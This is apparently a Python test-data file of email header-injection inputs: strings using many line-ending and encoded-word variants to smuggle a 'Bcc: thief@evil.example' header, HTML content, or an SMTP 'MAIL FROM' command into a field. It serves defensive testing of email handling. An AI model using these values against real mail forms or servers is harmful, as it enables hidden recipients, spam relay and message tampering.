"""Texts that would be headers of their own, or hosts of somebody else, by name."""

_END = ("\n", "\r", "\r\n", "\n\n", "\r\n\r\n", "\n ", "\r\n\t", "\x0b", "\x0c", "\x1c", "\x1e",
        "\x85", "\u2028", "\u2029", "\0")  # fmt: skip
#: Line ends of every kind before a header, and words that become one when they are decoded.
TEXTS: tuple[str, ...] = (
    *(f"Hello{end}Bcc: thief@evil.example" for end in _END),
    "=?utf-8?q?Hello=0aBcc:_thief@evil.example?=",
    "=?utf-8?q?Hello=0d=0aBcc:_thief@evil.example?=",
    "=?utf-8?b?SGVsbG8KQmNjOiB0aGllZkBldmlsLmV4YW1wbGU=?=",
    "=?iso-8859-1?q?=0aBcc:_thief@evil.example?=",
    "=?utf-8?q?=00=0d=0a=0d=0abody?=",
    "=?us-ascii?q?a?= =?utf-8?q?=0aBcc:_thief@evil.example?=",
    "Hello%0d%0aBcc: thief@evil.example", "Hello\\r\\nBcc: thief@evil.example",
    "thief@evil.example, Hello", "<thief@evil.example>", '"Hello" <thief@evil.example>',
    "Hello; boundary=x", "Hello" + "o" * 2_000, "สวัสดี\r\nBcc: thief@evil.example",
    "\u202eolleH\nBcc: thief@evil.example", "Hello\nContent-Type: text/html\n\n<script>",
    "Hello\n.\nMAIL FROM:<thief@evil.example>",
)  # fmt: skip
